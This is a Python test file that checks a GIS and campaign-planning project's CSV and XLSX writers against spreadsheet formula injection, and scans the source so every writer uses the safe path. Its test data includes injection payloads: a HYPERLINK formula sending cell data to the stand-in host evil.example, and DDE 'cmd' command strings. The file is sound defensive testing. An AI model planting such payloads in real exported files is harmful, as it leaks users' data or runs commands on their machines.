"""Spreadsheet formula injection (OWASP "CSV injection"): every CSV and XLSX writer is safe.

Text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return reaches a cell with a
leading single quote (so spreadsheet programs keep it as text); genuine numbers stay numbers.
The writers: ``campaign.export`` (campaign plans and status, the monthly report's tables,
the API's status.xlsx), ``gisapp export`` CSV (``layers.io.writer``) and ``gisapp screen``
CSV (``layers.screen_files`` and the ``--db`` table). A source scan keeps new writers honest.
"""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

import geopandas as gpd
from shapely.geometry import LineString, Polygon

from campaign.export import (
    FORMULA_STARTS,
    spreadsheet_cell,
    spreadsheet_safe,
    write_csv,
    write_plan_csv,
    write_tables_csv,
    write_tables_xlsx,
)
from campaign.model import ProjectRecord
from campaign.sampling import plan_campaign
from campaign.settings import CampaignSettings
from layers.io.reader import read_layer
from layers.io.writer import write_layer
from layers.screen_files import conflicts_frame, screen_files, write_conflicts
from spatial_rules.rulesets import load_rule_set

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NUMBERS = ["-12.5", "+3", "-0.7", "1e-3", "-4E+2"]
ROOT = Path(__file__).resolve().parents[2]


def _formula_like(value: object) -> bool:
    """Whether a cell would be read as a formula: starts with a formula character, not a number."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", value))


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _xlsx_cells(path: Path) -> list:
    book = load_workbook(path)  # not read-only: the cell's data type is needed
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a cell was written as a live formula"
    return [cell.value for cell in cells]


def _assert_safe(cells: list, expected_text: list[str]) -> None:
    assert not [c for c in cells if _formula_like(c)]
    # XML (XLSX) reads a stored carriage return back as a line feed.
    shown = {c.replace("\r", "\n") if isinstance(c, str) else c for c in cells}
    for text in expected_text:
        assert "'" + text.replace("\r", "\n") in shown, text


def test_the_cell_rule_follows_owasp():
    for text in HOSTILE:
        assert spreadsheet_cell(text) == "'" + text
    for text in [*NUMBERS, "崇明-01", "A=1", "", "'=already quoted"]:
        assert spreadsheet_cell(text) == text
    for value in (-3, -2.5, None, True, date(2026, 5, 1)):
        assert spreadsheet_cell(value) == value


def test_spreadsheet_safe_keeps_numbers_numeric_and_the_frame_unchanged():
    frame = pd.DataFrame({"name": [*HOSTILE, "普通项目", None], "n": range(-1, len(HOSTILE) + 1),
                          "x": [-0.5] * (len(HOSTILE) + 2)})
    safe = spreadsheet_safe(frame)
    assert safe["name"].tolist()[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert safe["name"].iloc[-2] == "普通项目" and pd.isna(safe["name"].iloc[-1])
    assert safe["n"].tolist() == frame["n"].tolist() and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].dtype == frame["x"].dtype
    assert frame["name"].tolist()[0] == HOSTILE[0]  # the caller's frame is not modified
    clean = pd.DataFrame({"name": ["a", "b"]})
    assert spreadsheet_safe(clean) is clean  # nothing to do, nothing copied


def test_campaign_csv_and_xlsx_writers(tmp_path):
    frame = pd.DataFrame({"项目编号": HOSTILE, "数量": range(len(HOSTILE)),
                          "文本数字": NUMBERS + NUMBERS[: len(HOSTILE) - len(NUMBERS)]})
    _assert_safe(_csv_cells(write_csv(frame, tmp_path / "one.csv")), HOSTILE)
    for path in write_tables_csv({"a": frame, "b": frame}, tmp_path / "tables"):
        _assert_safe(_csv_cells(path), HOSTILE)
    cells = _xlsx_cells(write_tables_xlsx({"表一": frame, "表二": frame}, tmp_path / "t.xlsx"))
    _assert_safe(cells, HOSTILE)
    assert set(range(len(HOSTILE))) <= {c for c in cells if isinstance(c, int)}  # numbers stay numbers
    assert set(NUMBERS) <= set(cells)  # numeric text is left alone


def test_campaign_plan_csv(tmp_path):
    projects = [ProjectRecord(code, date(2026, 1, 10)) for code in HOSTILE]
    plan = plan_campaign(projects, CampaignSettings.for_year(2026), seed=1)
    cells = _csv_cells(write_plan_csv(plan, tmp_path / "plan.csv"))
    picked = {c[1:] for c in cells if c.startswith("'")}
    assert picked and picked <= set(HOSTILE)
    _assert_safe(cells, [])


def _pipelines(names: list[str]) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"id": [f"P-{i}" for i in range(len(names))], "name": names,
         "owner": ["@燃气公司"] * len(names), "pressure_class": ["high_b"] * len(names),
         "outer_diameter_mm": [508.0] * len(names)},
        geometry=[LineString([(121.40, 31.63 + i * 0.001), (121.41, 31.63 + i * 0.001)])
                  for i in range(len(names))],
        crs=4490,
    )


def test_export_csv_is_safe_and_reads_back_as_written(tmp_path):
    names = [t for t in HOSTILE if not t.startswith(("\t", "\r"))]  # blanks are trimmed on import
    frame = _pipelines(names)
    path = write_layer(frame, tmp_path / "pipelines.csv")
    _assert_safe(_csv_cells(path), [*names, "@燃气公司"])
    again = read_layer(path, "pipelines").frame
    assert again["name"].tolist() == names  # import undoes the quote: export -> import is exact
    assert set(again["owner"]) == {"@燃气公司"}


def test_screen_csv_is_safe(tmp_path):
    pipes = write_layer(_pipelines(["干线"]), tmp_path / "pipes.geojson")
    square = Polygon([(121.405, 31.6299), (121.4053, 31.6299), (121.4053, 31.6302),
                      (121.405, 31.6302)])
    sites = gpd.GeoDataFrame({"id": ["=1+1"], "name": ["-项目"], "kind": ["housing"],
                              "status": ["under_construction"]}, geometry=[square], crs=4490)
    sites_path = tmp_path / "sites.geojson"
    sites.to_file(sites_path, driver="GeoJSON")
    screening = screen_files(pipes, sites_path, load_rule_set("shanghai"))
    out = write_conflicts(conflicts_frame(screening), tmp_path / "conflicts.csv")
    _assert_safe(_csv_cells(out), ["=1+1"])


# Every place that writes a CSV or XLSX file, and the one place allowed to write raw cells.
WRITES = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(")
RAW_ALLOWED = {
    # The COPY buffer that feeds PostgreSQL during an import: data, not a spreadsheet.
    ("layers/importer.py", "csv.writer("),
    # to_spreadsheet_csv's fast path: it writes the cells spreadsheet_safe returned.
    ("campaign/export.py", "csv.writer("),
}


@pytest.mark.parametrize("package", ["campaign", "layers", "maps", "gisapp", "spatial_rules", "vocabulary"])
def test_every_writer_goes_through_the_one_place(package):
    for path in sorted((ROOT / package).rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            found = WRITES.search(line)
            if not found or line.lstrip().startswith("#") or (relative, found.group(0)) in RAW_ALLOWED:
                continue
            # Only campaign/export.py writes cells, and only after spreadsheet_safe.
            assert relative == "campaign/export.py" and "spreadsheet_safe(" in line, (
                f"{relative}:{number} writes a CSV/XLSX without campaign.export's safe writers"
            )
